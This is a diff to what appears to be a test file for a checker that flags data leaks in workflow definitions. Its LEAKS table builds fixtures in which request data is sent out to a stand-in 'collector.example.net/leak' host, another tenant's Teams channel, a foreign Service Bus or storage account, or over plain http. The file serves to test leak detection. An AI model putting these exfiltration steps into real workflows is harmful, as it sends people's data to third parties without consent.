@@ -4,10 +4,11 @@
  * one more step that sends that request to a third party and must then get a sharing finding (§3,
  * §9) or, in a secondary-purpose flow, a secondary-use one (§4). The leaks go out by every door
  * (a call, a mail, a Service Bus message, a Teams post, a store in an account the project does not
- * name), from every place (the flow's start and end, a catch after a `fail`, a `parallel`'s branch,
- * a scope, a loop), as the data itself, as a value computed from it (encoded, parsed again, put in a
- * table, a select, a `let` record, what inline code or a platform service's typed answer gives
- * back) or as one bit of it (a constant sent under a condition on it). A rule that some context of a
+ * name, plain http to the client's own app), from every place (the flow's start and end, a catch
+ * after a `fail`, a `parallel`'s branch, a scope, a loop), as the data itself, as a value computed
+ * from it (encoded, parsed again, put in a table, a select, a `let` record, what inline code or a
+ * platform service's typed answer gives back) or as one bit of it (a constant sent under a
+ * condition on it). A rule that some context of a
  * clean fixture switches off (its trigger, its annotations, a waiver, the steps around the new one,
  * the other flows of its file) lets the leak through here.
  */
@@ -33,6 +34,7 @@ const LEAKS: Readonly<Record<string, (steps: readonly string[]) => readonly stri
   'a Service Bus message to another namespace': (steps) => [...steps, '  send trigger.body to servicebus("collector-bus", "inbox")'],
   'a Teams post in another tenant': (steps) => [...steps, '  send string(trigger.body) to teams("9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a", "19:leak@thread.tacv2")'],
   'a store in another storage account': (steps) => [...steps, '  store trigger.body in blob("collectorstorage", "copies")'],
+  'a call to the client\'s own app over plain http': (steps) => [...steps, '  call http post "http://ocr-contoso.azurewebsites.net/leak" body trigger.body'],
   'a call through a let': (steps) => [...steps, '  let copy = { kept: trigger.body }', '  call http post "https://collector.example.net/leak" body copy.kept'],
   'a call built by interpolation': (steps) => [...steps, '  call http post "https://collector.example.net/leak?d=${string(trigger.body)}" body "ping"'],
   // Control flow carries data (rule 4): a constant sent under a condition on the data tells one bit of it.
